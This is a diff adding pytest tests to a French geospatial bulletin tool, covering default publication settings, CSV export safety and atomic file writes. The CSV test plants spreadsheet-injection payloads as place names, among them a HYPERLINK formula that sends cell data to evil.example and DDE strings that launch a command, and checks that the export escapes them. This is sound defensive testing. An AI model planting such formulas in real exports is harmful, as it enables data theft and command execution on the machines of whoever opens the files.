@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from pathlib import Path
 
 import geopandas as gpd
 import pandas as pd
@@ -121,3 +122,78 @@ def test_cli_writes_the_bulletin(fake_assets, tmp_path, capsys):
     assert (tmp_path / "v" / "carte.html").exists()
     out = capsys.readouterr().out
     assert "Veille 2024-T4" in out and "carte.html" in out
+
+
+def test_veille_defaults_to_partenaires_like_every_product(territory):
+    from gupgeo.cli import build_parser
+
+    assert build_bulletin(territory, period="2024-T4", freq="trimestre").publication == (
+        "partenaires"
+    )
+    parser = build_parser()
+    defaults = {
+        command: parser.parse_args([*args, "-o", "x"]).publication
+        for command, args in {
+            "veille": ["veille", "t", "--period", "2024"],
+            "carte": ["carte", "t"],
+            "atlas": ["atlas", "t", "--period", "2024"],
+            "review": ["review", "OP-01", "--territory", "t"],
+            "dashboard": ["dashboard", "t", "--period", "2024"],
+        }.items()
+    }
+    assert set(defaults.values()) == {"partenaires"}, defaults
+
+
+def test_veille_csv_files_hold_no_live_formula(territory, fake_assets, tmp_path):
+    layers = dict(territory.layers)
+    quartiers = layers["quartiers"].copy()
+    hostile = {
+        0: '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
+        1: "+33 cmd|' /C calc'!A0",
+        2: "-2+3+cmd|' /C calc'!A0",
+        3: "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    for position, name in hostile.items():
+        quartiers.loc[quartiers.index[position], "nom_qp"] = name
+    layers["quartiers"] = quartiers
+    b = build_bulletin(layers, period="2024-T4", freq="trimestre", publication="interne")
+    b.save(tmp_path / "v", basemap=None)
+    text = (tmp_path / "v" / "quartiers.csv").read_text(encoding="utf-8-sig")
+    table = pd.read_csv(tmp_path / "v" / "quartiers.csv", sep=";", dtype=str)
+    assert set(hostile.values()) <= {v[1:] for v in table["nom_qp"] if v.startswith("'")}
+    cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(";")]
+    assert not [c for c in cells if c[:1] in "=+-@" and not re.fullmatch(r"-?[\d,]+", c)]
+    assert table.columns[0] == "code_qp" and "hors QPV" in set(table["code_qp"])
+    carreaux = (tmp_path / "v" / "carreaux.csv").read_text(encoding="utf-8-sig")
+    assert not [line for line in carreaux.splitlines() if line.startswith(("=", "+", "@"))]
+
+
+def test_veille_outputs_are_written_atomically(territory, fake_assets, tmp_path, monkeypatch):
+    """Each file goes through a temporary name: a save that fails midway leaves no
+    half file, only the files already complete, and no temporary file behind."""
+    import gupgeo._atomic as atomic
+    import gupgeo.maps
+
+    b = build_bulletin(territory, period="2024-T4", freq="trimestre")
+    targets: list[str] = []
+    real = atomic.replacing
+
+    def spying(target):
+        targets.append(Path(target).name)
+        return real(target)
+
+    monkeypatch.setattr("gupgeo.veille.bulletin.replacing", spying)
+    written = b.save(tmp_path / "v", basemap=None)
+    assert {"veille.gpkg", "carte.html"} <= set(targets)
+    assert sorted(p.name for p in (tmp_path / "v").iterdir()) == sorted(p.name for p in written)
+
+    def broken(m, path, **kwargs):
+        Path(path).write_text("<html>moitié", encoding="utf-8")
+        raise OSError("disque plein")
+
+    monkeypatch.setattr(gupgeo.maps, "save_map", broken)
+    with pytest.raises(OSError, match="disque plein"):
+        b.save(tmp_path / "w", basemap=None)
+    left = sorted(p.name for p in (tmp_path / "w").iterdir())
+    assert "carte.html" not in left and not [n for n in left if n.startswith(".")]
+    assert {"veille.gpkg", "carreaux.csv", "quartiers.csv", "bulletin.html"} == set(left)
